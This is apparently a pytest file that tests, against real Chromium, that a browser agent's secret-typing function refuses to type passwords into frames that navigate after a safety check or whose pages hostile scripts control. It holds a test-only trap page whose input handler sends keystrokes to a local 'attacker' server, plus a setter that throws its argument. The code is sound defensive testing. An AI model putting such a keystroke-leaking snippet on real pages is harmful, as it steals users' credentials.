"""``type_secret`` against real Chromium: the check and the typing cannot be split by a navigation.

A page's frame is checked (an allowed http page), then navigates to a ``data:`` page that
sends anything typed into it to an "attacker" server before the value is set: the value
must not be typed anywhere, and the server must receive nothing.
"""

from __future__ import annotations

import asyncio
from typing import Any
from urllib.parse import quote

import pytest
from playwright.async_api import Browser

from tests.support.site import Site
from workers.page import field_writer
from workers.page.field_writer import FieldError
from workers.secrets.vault import SecretVault

SECRET = "correct-horse-battery"


def _allow_all(url: str) -> str | None:
    return None


@pytest.fixture
def servers() -> Any:
    site, attacker = Site(), Site()
    site.start()
    attacker.start()
    yield site, attacker
    site.stop()
    attacker.stop()


def _trap(attacker: str) -> str:
    field = (
        f'<input autofocus id=f oninput="new Image().src=\'{attacker}/leak?\'+this.value">'
        f"<script>document.getElementById('f').focus()</script>"
    )
    return "data:text/html," + quote(field)


def test_a_frame_that_navigates_after_the_check_gets_nothing(
    loop: asyncio.AbstractEventLoop, browser: Browser, servers: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    site, attacker = servers
    site.pages["/outer"] = '<!doctype html><title>Outer</title><iframe src="/inner"></iframe>'
    site.pages["/inner"] = "<!doctype html><title>Inner</title><input id=f>"
    checked_chain = field_writer._frame_chain

    async def chain_then_navigate(frame: Any) -> list[str]:
        urls = await checked_chain(frame)  # an allowed http page when checked...
        # ...a data: page when the value arrives. goto returns once the new document has
        # loaded (a navigation the page starts itself may commit after the value is set,
        # which is safe, in the checked page, but is not the case under test).
        await frame.goto(_trap(attacker.url))
        assert frame.url.startswith("data:"), frame.url
        return urls

    monkeypatch.setattr(field_writer, "_frame_chain", chain_then_navigate)

    async def scenario() -> str:
        context = await browser.new_context()
        try:
            page = await context.new_page()
            await page.goto(site.url + "/outer")
            frame = page.frames[1]
            handle = await frame.wait_for_selector("#f")
            assert handle is not None
            with pytest.raises(FieldError) as info:
                await field_writer.type_secret(
                    handle, "<secret>pw</secret>", SecretVault({"pw": SECRET}), _allow_all
                )
            await page.wait_for_timeout(300)  # time for a leak to be sent, if anything was typed
            return str(info.value)
        finally:
            await context.close()

    message = loop.run_until_complete(scenario())
    assert "nothing was typed" in message
    assert attacker.log == [], attacker.log
    assert SECRET not in message


def test_a_secret_is_set_in_an_allowed_page_and_frameworks_hear_it(
    loop: asyncio.AbstractEventLoop, browser: Browser, servers: Any
) -> None:
    site, _ = servers
    site.pages["/form"] = (
        "<!doctype html><title>Form</title><input id=f value=old>"
        "<script>window.heard=[];document.getElementById('f')"
        ".addEventListener('input',e=>heard.push(e.target.value))</script>"
    )

    async def scenario() -> tuple[str, list[str]]:
        context = await browser.new_context()
        try:
            page = await context.new_page()
            await page.goto(site.url + "/form")
            handle = await page.wait_for_selector("#f")
            assert handle is not None
            vault = SecretVault({"pw": SECRET})
            await field_writer.type_secret(handle, "<secret>pw</secret>", vault, _allow_all, clear=False)
            return await handle.input_value(), await page.evaluate("heard")
        finally:
            await context.close()

    value, heard = loop.run_until_complete(scenario())
    assert value == "old" + SECRET and heard == ["old" + SECRET]


def test_a_setter_that_throws_what_it_was_given_does_not_get_the_secret_into_the_error(
    loop: asyncio.AbstractEventLoop, browser: Browser, servers: Any
) -> None:
    """A frame without our init script (so with no setter kept from before page scripts) whose
    page replaced `value` with a setter that throws its argument: the refusal says the page
    threw, not what."""
    site, _ = servers
    site.pages["/throws"] = (
        "<!doctype html><title>Throws</title><input id=f readonly><script>"
        "Object.defineProperty(HTMLInputElement.prototype, 'value', {configurable: true,"
        " get() { return ''; }, set(v) { throw new Error('got ' + v); }});</script>"
    )

    async def scenario() -> str:
        context = await browser.new_context()  # no init script
        try:
            page = await context.new_page()
            await page.goto(site.url + "/throws")
            handle = await page.wait_for_selector("#f")
            assert handle is not None
            with pytest.raises(FieldError) as info:
                await field_writer.type_secret(handle, "<secret>pw</secret>", SecretVault({"pw": SECRET}),
                                                _allow_all)
            return str(info.value)
        finally:
            await context.close()

    message = loop.run_until_complete(scenario())
    assert message == "secret not typed: the page threw an error; nothing was typed"
